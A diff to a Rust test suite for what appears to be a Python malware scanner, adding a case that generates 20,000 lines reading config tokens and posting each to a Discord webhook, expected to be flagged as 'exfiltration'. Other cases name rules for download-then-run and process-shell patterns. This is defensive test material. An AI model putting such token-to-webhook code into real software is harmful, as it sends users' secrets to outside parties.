@@ -252,6 +252,18 @@ fn many_module_handles() -> String {
     s
 }
 
+/// 20,000 values read under a secret's key, each posted to a webhook:
+/// the keyed variables are gathered once, then looked up per send.
+fn many_keyed_sends() -> String {
+    let mut s = String::from("import requests\n");
+    for i in 0..20_000 {
+        s.push_str(&format!(
+            "v{i} = cfg['token{i}']\nrequests.post('https://discord.com/api/webhooks/{i}/x', data=v{i})\n"
+        ));
+    }
+    s
+}
+
 /// A comprehension over the environment whose `if` joins 50,000 prefix
 /// tests with `and` (the Python 2 front-end's tree is 50,000 levels deep
 /// there): refused as too deep before any walk, without a stack overflow.
@@ -302,6 +314,7 @@ const CASES: &[Case] = &[
     Case { name: "8mb-definitions", source: many_definitions_past_the_limit, expect: Some("file-too-large") },
     Case { name: "20k-downloads-and-starts", source: many_downloads_and_starts, expect: Some("download-then-run") },
     Case { name: "20k-module-handles", source: many_module_handles, expect: Some("process-shell") },
+    Case { name: "20k-keyed-sends", source: many_keyed_sends, expect: Some("exfiltration") },
     Case { name: "50k-prefix-tests", source: long_prefix_test, expect: Some("excessive-nesting") },
 ];
 
